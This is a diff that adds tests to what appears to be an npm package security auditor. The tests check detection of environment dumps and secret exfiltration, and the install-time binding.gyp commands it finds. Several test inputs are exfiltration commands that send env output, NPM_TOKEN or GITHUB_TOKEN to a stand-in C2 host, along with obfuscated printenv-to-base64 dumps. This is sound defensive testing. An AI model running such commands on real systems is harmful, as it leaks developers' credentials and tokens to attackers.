@@ -459,3 +459,30 @@ test('independent review 2: Worker eval, data: URL imports, environment copies, 
   assert.ok(!sig("const fs = require('fs');\nrequire('vm').runInThisContext(fs.readFileSync(__dirname + '/lib.js', 'utf8'));").includes('eval/decoded-exec'));
   assert.ok(!sig("WebAssembly.compile(Buffer.from(require('./a') + require('./b'), 'base64'));").includes('eval/decoded-exec'));
 });
+
+test('independent review 2: shell commands that dump the environment or expand secret variables', async () => {
+  const { analyzeCommand } = await import('../../src/audit/code/analyze.js');
+  const sig = (command: string) => [...new Set(analyzeCommand(command).map((e) => `${e.capability}/${e.signal ?? ''}`))].sort();
+  assert.ok(sig('printenv | gzip | base64 -w0 > /tmp/e').includes('obfuscation/encoded-dump'));
+  assert.ok(sig('curl -d "$(env)" https://c2.example.invalid/').includes('env/env-serialize'));
+  assert.ok(sig("p''rintenv | base64").includes('obfuscation/encoded-dump'));
+  assert.ok(sig('wget "https://c2.example.invalid/?t=${NPM_TOKEN}"').includes('env/env-secret'));
+  assert.ok(sig('curl https://c2.example.invalid/ -H "x: %GITHUB_TOKEN%"').includes('env/env-secret'));
+  // Controls: env as a launcher, printenv of one variable, npm's own variables.
+  for (const command of ['env BUILD=1 node build.js', 'printenv NODE_ENV', 'echo $npm_package_version', 'cross-env NODE_ENV=production webpack']) {
+    assert.ok(!sig(command).some((s) => s.startsWith('env/') || s.startsWith('obfuscation/')), command);
+  }
+});
+
+test('independent review 2: binding.gyp command expansions run at install; test files the main file loads are not context', async () => {
+  const { gypCommands } = await import('../../src/audit/code/package.js');
+  assert.deepEqual(gypCommands('{ "a": ["<!(node -p \\"require(\'x\').dir\\")", "<!@(pkg-config --libs ssl)", "<(x)"] }').map((c) => c.command), ['node -p \\"require(\'x\').dir\\"', 'pkg-config --libs ssl']);
+  const dir = mkdtempSync(join(work, 'entry-closure-'));
+  mkdirSync(join(dir, 'test'));
+  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0', main: 'lib.js' }));
+  writeFileSync(join(dir, 'lib.js'), "require('./test/setup');");
+  writeFileSync(join(dir, 'test/setup.js'), 'globalThis.fetch = () => 1;');
+  writeFileSync(join(dir, 'test/other.js'), 'globalThis.fetch = () => 2;');
+  const verdict = judgePackage('p', analyzePackageDir(dir), { verified: false, reason: '' });
+  assert.deepEqual(verdict.findings.map((f) => `${f.severity} ${f.evidence[0]!.file}`).sort(), ['high test/setup.js', 'info test/other.js']);
+});
